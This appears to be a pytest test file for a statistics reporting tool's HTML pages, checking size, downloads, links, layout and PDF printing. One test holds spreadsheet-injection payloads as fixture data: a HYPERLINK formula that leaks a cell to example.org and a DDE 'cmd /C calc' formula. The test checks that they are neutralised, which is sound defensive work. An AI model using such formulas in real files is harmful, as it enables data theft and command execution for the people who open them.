"""The report pages as a reader gets them: small, complete when mailed (every table's and chart's
data inside the page), linked (contents, note markers and back), readable on a phone and on A4.

The reports are made the way the batch makes them (papermill through the runner) on the shipped
data; the downloads are also checked against the report objects themselves, built by running
each notebook's code in this process.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest

from indicators.batch.jobs import Job
from indicators.batch.runner import run_jobs
from indicators.reporting import Report
from indicators.reporting.blocks import Picture
from indicators.reporting.html_export import CONTENT_SECURITY_POLICY, css_string, notebook_to_html
from indicators.reporting.peers import rank_range
from indicators.textsafety import neutralise, restore

from .browser import CHROMIUM, CHROMIUM_ARGS
from .conftest import REPO

STAMP = "2026-01-01T00:00:00+00:00"
#: A report page without its data: URIs (charts, CSV files, the workbook) weighs at most this.
PAGE_BUDGET = 150_000
#: The pages made once for this module: name → (notebook, parameters).
PAGES = {
    "trend": ("trend_report.ipynb", {}),
    "trend_en": ("trend_report.ipynb", {"language": "en"}),
    "overview": ("overview.ipynb", {}),
    "peers": ("peer_comparison.ipynb", {}),
    "peers_four": ("peer_comparison.ipynb", {"indicators": "gdp,foreign_trade,fdi_actual,budget_revenue"}),
    "audit": ("data_audit.ipynb", {"language": "en"}),
    "target_gap": ("target_gap_report.ipynb", {"plan": ""}),  # every plan: the progress chart, 25 small charts
}
DATA_URI = re.compile(r"data:[^\"'\s)]+")


@pytest.fixture(scope="module")
def pages(shipped_data, tmp_path_factory) -> dict[str, str]:
    """Every report kind once (two trend reports, two peer comparisons), as the batch writes them."""
    out = tmp_path_factory.mktemp("pages")
    jobs = [Job(name, notebook, parameters) for name, (notebook, parameters) in PAGES.items()]
    summary = run_jobs(jobs, out_dir=out, data_dir=shipped_data, generated_at=STAMP, stream=io.StringIO())
    assert {o.job.name: o.status for o in summary.outcomes} == dict.fromkeys(PAGES, "ok"), summary.outcomes
    return {name: (out / f"{name}.html").read_text(encoding="utf-8") for name in PAGES}


@pytest.fixture(scope="module")
def page_files(pages, tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("page_files")
    for name, text in pages.items():
        (folder / f"{name}.html").write_text(text, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in pages}


class Page(HTMLParser):
    """The ids of a page, its links, the note markers and back links, and its download links."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.ids: list[str] = []
        self.hrefs: list[tuple[str, str]] = []  # (class, href) of every <a href>
        self.downloads: dict[str, str] = {}  # file name → data: URI
        self.contents: list[str] = []  # the hrefs in the contents
        self.notes_with_back: list[str] = []
        self._in_nav = False
        self._note = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if "id" in a:
            self.ids.append(a["id"])
        if tag == "nav" and "ind-contents" in a.get("class", ""):
            self._in_nav = True
        if tag == "li" and a.get("id", "").startswith("note-"):
            self._note = a["id"]
        if tag == "a" and "href" in a:
            if "download" in a:
                self.downloads[a["download"]] = a["href"]
            else:
                self.hrefs.append((a.get("class", ""), a["href"]))
                if self._in_nav:
                    self.contents.append(a["href"])
                if "ind-back" in a.get("class", ""):
                    self.notes_with_back.append(self._note)

    def handle_endtag(self, tag: str) -> None:
        if tag == "nav":
            self._in_nav = False


class Tables(HTMLParser):
    """The report tables of a page (key, header texts, number of body rows, the download link
    that follows) and its images' attributes."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: list[dict] = []
        self.images: list[dict[str, str]] = []
        self._th: list[str] | None = None
        self._after_table = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "img":
            self.images.append(a)
        elif tag == "table" and "ind-table" in a.get("class", ""):
            self.tables.append({"key": a.get("data-section", ""), "header": [], "rows": 0, "download": ""})
            self._after_table = False
        elif self.tables and tag == "th" and "scope" in a:
            self._th = []
        elif self.tables and tag == "tr" and self.tables[-1]["header"]:
            self.tables[-1]["rows"] += 1
        elif tag == "a" and "download" in a and self._after_table:
            self.tables[-1]["download"] = a["href"]
            self._after_table = False
        elif tag in ("table", "section", "figure", "h2"):
            self._after_table = False

    def handle_data(self, data: str) -> None:
        if self._th is not None:
            self._th.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "th" and self._th is not None:
            self.tables[-1]["header"].append("".join(self._th))
            self._th = None
        elif tag == "table" and self.tables:
            self._after_table = True


def decode(uri: str) -> bytes:
    head, _, data = uri.partition(",")
    assert head.endswith(";base64"), head
    return base64.b64decode(data)


def csv_rows(uri: str) -> list[list[str]]:
    data = decode(uri)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel reads Chinese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def workbook_of(page: Page):
    (uri,) = [u for name, u in page.downloads.items() if name.endswith(".xlsx")]
    assert uri.startswith("data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64,")
    return openpyxl.load_workbook(io.BytesIO(decode(uri)))


def sheet_rows(sheet) -> list[list[str]]:
    return [["" if c.value is None else c.value for c in row] for row in sheet.iter_rows()]


# -- size ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PAGES))
def test_a_page_weighs_at_most_150_kb_besides_its_charts_and_data(pages, name):
    text = pages[name]
    assert len(DATA_URI.sub("", text).encode("utf-8")) <= PAGE_BUDGET
    # only the report's own stylesheet: none of JupyterLab's theme, icons or pygments classes
    assert "--jp-" not in text and "jp-icon" not in text and ".highlight" not in text


def test_the_head_starts_with_the_policy_and_names_viewport_and_language(pages):
    for name, text in pages.items():
        head = text.split("</head>")[0]
        metas = [dict(re.findall(r'([\w-]+)="([^"]*)"', m)) for m in re.findall(r"<meta[^>]*>", head)]
        assert metas[0] == {"charset": "utf-8"}, name
        assert metas[1] == {"http-equiv": "Content-Security-Policy", "content": CONTENT_SECURITY_POLICY}, name
        assert head.index("Content-Security-Policy") < head.index("<title>") < head.index("<style")
        assert {"name": "viewport", "content": "width=device-width, initial-scale=1"} in metas
    assert '<html lang="zh-CN">' in pages["trend"] and '<html lang="en">' in pages["trend_en"]


def test_charts_are_drawn_at_twice_the_size_they_are_shown(pages):
    from PIL import Image

    charts = [i for i in Tables(pages["trend"]).images if "width" in i and "ind-spark" not in i.get("class", "")]
    assert charts
    for img in charts:
        image = Image.open(io.BytesIO(decode(img["src"])))
        assert image.size == (2 * int(img["width"]), 2 * int(img["height"]))
        assert image.mode == "P"  # a palette PNG


# -- downloads -----------------------------------------------------------------------------------


def notebook_report(notebook: str, parameters: dict, data_dir: Path, monkeypatch) -> Report:
    """The report object a notebook builds, by running the notebook's code here (its displays
    are left undisplayed: calling them is what registers the downloads)."""
    monkeypatch.setenv("INDICATORS_DATA_DIR", str(data_dir))
    monkeypatch.setenv("INDICATORS_GENERATED_AT", STAMP)
    nb = nbformat.read(REPO / "notebooks" / notebook, as_version=4)
    namespace: dict = {}
    for cell in nb.cells:
        if cell.cell_type == "code":
            exec(compile(cell.source, notebook, "exec"), namespace)
            if "parameters" in cell.metadata.get("tags", []):
                namespace.update(parameters)
    return namespace["rep"]


@pytest.mark.parametrize("name", ["trend", "trend_en", "overview", "peers_four", "audit", "target_gap"])
def test_every_download_link_is_the_table_or_chart_it_belongs_to(shipped_data, monkeypatch, name):
    notebook, parameters = PAGES[name]
    rep = notebook_report(notebook, parameters, shipped_data, monkeypatch)
    offered = rep.offered
    assert any(isinstance(item, Picture) for item in offered.values()) or name == "overview"
    for key, item in offered.items():
        html = item._repr_html_()
        links = Page(html).downloads
        if len(item.text_rows()) < 2:  # nothing to offer: no rows
            assert not links or isinstance(item, Picture), key
            continue
        ((file_name, uri),) = links.items()
        assert file_name == f"{rep.file_stem}_{key.split('.', 1)[1].replace('.', '-')}.csv"
        assert uri.startswith("data:text/csv;charset=utf-8;base64,")
        rows = csv_rows(uri)
        assert rows == [[neutralise(c) for c in row] for row in item.text_rows()], key
        assert [[restore(c) for c in row] for row in rows] == item.text_rows(), key


def test_the_page_offers_a_csv_per_table_and_chart_and_one_workbook(pages):
    page = Page(pages["trend"])
    names = sorted(page.downloads)
    assert names == [
        "trend_gdp_wcna_zh.xlsx",
        "trend_gdp_wcna_zh_chart.csv",
        "trend_gdp_wcna_zh_growth.csv",
        "trend_gdp_wcna_zh_share.csv",
        "trend_gdp_wcna_zh_values.csv",
    ]
    # the CSV under a table has the table's header and as many rows as the table shown
    tables = Tables(pages["trend"]).tables
    assert [t["key"] for t in tables] == ["trend.growth", "trend.share", "trend.values"]
    for table in tables:
        rows = csv_rows(table["download"])
        assert rows[0] == table["header"], table["key"]
        assert len(rows) - 1 == table["rows"], table["key"]


@pytest.mark.parametrize("name", ["trend", "audit"])
def test_the_workbook_holds_every_table_as_shown_and_the_source_notes(pages, name):
    page = Page(pages[name])
    book = workbook_of(page)
    sheets = {s.title: sheet_rows(s) for s in book.worksheets}
    titles = list(sheets)
    csvs = [csv_rows(uri) for file, uri in sorted(page.downloads.items()) if file.endswith(".csv")]
    tables = [rows for title, rows in sheets.items() if title not in (titles[0], titles[-1])]
    assert len(tables) == len(csvs)
    for rows in csvs:  # every CSV is a sheet, cell for cell (the workbook's text without the prefix)
        assert [[restore(c) for c in row] for row in rows] in tables
    notes = sheets[titles[-1]]
    assert len(notes) - 1 == len(re.findall(r"<li[^>]* id=\"note-\d+\"", pages[name]))
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def test_text_that_would_be_a_formula_is_neutralised_in_csv_and_workbook(tmp_path, monkeypatch):
    """The formula fixture: a source titled ``=HYPERLINK(...)``, published by ``@SUM(...)``, a
    region whose name begins with ``=``, growth of -3.2%."""
    import indicators

    data = tmp_path / "data"
    shutil.copytree(REPO / "tests" / "fixtures" / "security" / "formula_raw", data / "raw")
    indicators.build(data)
    rep = notebook_report("trend_report.ipynb", {}, data, monkeypatch)
    growth = rep.offered["trend.growth"]
    rows = csv_rows(next(iter(Page(growth._repr_html_()).downloads.values())))
    assert rows[1][1] == "'-3.2%（可比价）"  # a spreadsheet would read -3.2%… as a formula
    book = openpyxl.load_workbook(io.BytesIO(rep.workbook()))
    cells = {c.value: c for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}
    formula = '=HYPERLINK("http://example.org/?leak="&A1,"统计公报")'
    assert cells[formula].data_type == "s" and cells[formula].quotePrefix
    assert cells["@SUM(1+1)*cmd|' /C calc'!A0"].data_type == "s"
    assert all(c.data_type != "f" for c in cells.values())


def test_the_same_report_gives_the_same_workbook_bytes(shipped_data, monkeypatch):
    a = notebook_report("data_audit.ipynb", {}, shipped_data, monkeypatch).workbook()
    b = notebook_report("data_audit.ipynb", {}, shipped_data, monkeypatch).workbook()
    assert a == b


# -- links -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PAGES))
def test_every_note_marker_resolves_and_every_note_links_back(pages, name):
    page = Page(pages[name])
    ids = set(page.ids)
    assert len(page.ids) == len(ids), "ids are unique"
    markers = [href for cls, href in page.hrefs if "ind-ref" in cls]
    assert markers, name
    for href in markers:
        assert re.fullmatch(r"#note-\d+", href) and href[1:] in ids, href
    notes = {i for i in ids if i.startswith("note-")}
    assert {m[1:] for m in markers} == notes  # every note is cited, every citation has its note
    for note in notes:  # each note links back to the first marker citing it
        assert note in page.notes_with_back
        assert f"ref-{note[5:]}" in ids
    for cls, href in page.hrefs:
        if "ind-back" in cls:
            assert href[1:] in ids


@pytest.mark.parametrize(
    ("name", "entries"),
    [
        ("trend", 5 + 2),
        ("audit", 7 + 2),
        ("peers_four", 4 + 2),
        ("overview", 0),
        ("peers", 0),
        ("target_gap", 4 + 1 + 2),
    ],
)
def test_reports_of_more_than_three_sections_have_contents_whose_links_resolve(pages, name, entries):
    page = Page(pages[name])
    assert len(page.contents) == entries
    for href in page.contents:
        assert href.startswith("#") and href[1:] in page.ids, href
    if entries:
        assert page.contents[-2:] == ["#notes", "#downloads"]


def test_the_headline_boxes_say_three_to_five_things_from_the_reports_figures(shipped_data, monkeypatch):
    for notebook, parameters, section in [
        ("overview.ipynb", {}, "overview.headline"),
        ("peer_comparison.ipynb", {}, "peers.headline"),
        ("data_audit.ipynb", {}, "audit.headline"),
        ("target_gap_report.ipynb", {"plan": ""}, "gap.headline"),
    ]:
        rep = notebook_report(notebook, parameters, shipped_data, monkeypatch)
        html = rep.headline().html
        assert html.startswith('<aside class="ind-headline"')
        n = html.count("<li>")
        assert 3 <= n <= 5, (section, n)
        shown = rep.shown_frame(section)
        assert len(shown) and set(shown["role"]) == {"headline"}
        plain = re.sub(r"<[^>]+>", "", html)
        for _, row in shown.iterrows():  # every figure in the box was shown by the report's formatter
            assert (row["number"] or row["text"]) in plain, row.to_dict()


def test_a_bound_leaves_the_place_open():
    def fig(value, qualifier="exact"):
        return pd.Series({"value": value, "value_base": value, "qualifier": qualifier})

    assert rank_range(fig(4368.53), [fig(15353), fig(6715), fig(2576.3)]) == (3, 3)
    assert rank_range(fig(4368.53), [fig(15353), fig(4000, "more_than"), fig(2576.3)]) == (2, 3)
    assert rank_range(fig(4368.53), [fig(5000, "more_than"), fig(4000, "less_than")]) == (2, 2)
    assert rank_range(fig(4000, "more_than"), [fig(3000), fig(5000)]) == (1, 2)


# -- the page in Chromium --------------------------------------------------------------------------


@pytest.mark.browser
def test_nothing_scrolls_sideways_at_375_pixels(chromium, page_files):
    context = chromium.new_context(viewport={"width": 375, "height": 800}, device_scale_factor=2)
    try:
        page = context.new_page()
        for name, path in page_files.items():
            page.goto(path.as_uri())
            assert page.evaluate("document.documentElement.scrollWidth") <= 375, name
            # wide tables scroll inside their own box
            wide = page.evaluate(
                "Array.from(document.querySelectorAll('.ind-table-wrap')).filter(w => w.scrollWidth > w.clientWidth)"
                ".every(w => getComputedStyle(w).overflowX === 'auto')"
            )
            assert wide, name
    finally:
        context.close()


@pytest.mark.browser
def test_chromium_downloads_every_link_under_the_page_policy(chromium, page_files, pages):
    context = chromium.new_context(accept_downloads=True)
    try:
        page = context.new_page()
        errors: list[str] = []
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.goto(page_files["trend"].as_uri())
        links = page.locator("a[download]")
        wanted = Page(pages["trend"]).downloads
        assert links.count() == len(wanted)
        for i in range(links.count()):
            with page.expect_download() as info:
                links.nth(i).click()
            download = info.value
            assert download.failure() is None
            assert Path(download.path()).read_bytes() == decode(wanted[download.suggested_filename])
        assert errors == []
    finally:
        context.close()


def print_pdf(html: Path, pdf: Path) -> None:
    """Print a page to PDF as `indicators … --pdf` does: Debian's headless Chromium."""
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            [
                str(CHROMIUM),
                *[a for a in CHROMIUM_ARGS if a != "--headless"],
                "--headless",
                "--no-pdf-header-footer",
                f"--print-to-pdf={pdf}",
                f"--user-data-dir={profile}",
                html.as_uri(),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )


def pdf_pages(pdf: Path) -> int:
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf.read_bytes()))


@pytest.mark.browser
def test_the_trend_report_prints_on_at_most_three_a4_pages_with_title_and_page_numbers(chromium, page_files, tmp_path):
    pdf = tmp_path / "trend.pdf"
    print_pdf(page_files["trend"], pdf)
    assert 1 <= pdf_pages(pdf) <= 3
    assert b"/MediaBox [0 0 594.95996 841.91998]" in pdf.read_bytes()  # A4
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (Debian poppler-utils) is not installed: the PDF's text is not read")
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    pages = text.split("\f")
    title = "地区生产总值趋势报告：青岛西海岸新区"
    version = re.search(r'data-data-version="(\w+)"', page_files["trend"].read_text(encoding="utf-8"))[1]
    for n, content in enumerate(p for p in pages if p.strip()):  # the running header and the page number
        assert title in content and f"数据版本 {version}" in content
        assert re.search(rf"\b{n + 1}\s*/\s*{pdf_pages(pdf)}\s*$", content), content[-200:]


def test_the_running_header_quotes_text_from_the_data_safely():
    assert css_string('a"b\\c</style>') == '"a\\000022b\\00005cc\\00003c\\00002fstyle\\00003e"'
    assert css_string("青岛 West") == '"青岛 West"'


def test_error_outputs_of_a_failed_notebook_render_as_readable_text():
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("rep = R.TrendReport(indicator='gpd')")
    cell.outputs = [
        nbformat.v4.new_output("stream", name="stderr", text="a warning on stderr\n"),
        nbformat.v4.new_output(
            "error",
            ename="UnknownIndicatorError",
            evalue="'gpd'",
            traceback=["\x1b[0;31mUnknownIndicatorError\x1b[0m: indicator 'gpd'. Did you mean 'gdp'?"],
        ),
    ]
    nb.cells.append(cell)
    page = notebook_to_html(nb, title="failed")
    assert "a warning on stderr" in page
    assert '<span class="ansi-red-fg">UnknownIndicatorError</span>' in page
    assert "\x1b" not in page and "rep = R.TrendReport" not in page  # no escape codes, no code
    body = page.split("<body", 1)[1]
    assert body.count('data-mime-type="application/vnd.jupyter.stderr"') == 2
    assert ".ansi-red-fg" in page and 'data-mime-type="application/vnd.jupyter.stderr"] {' in page
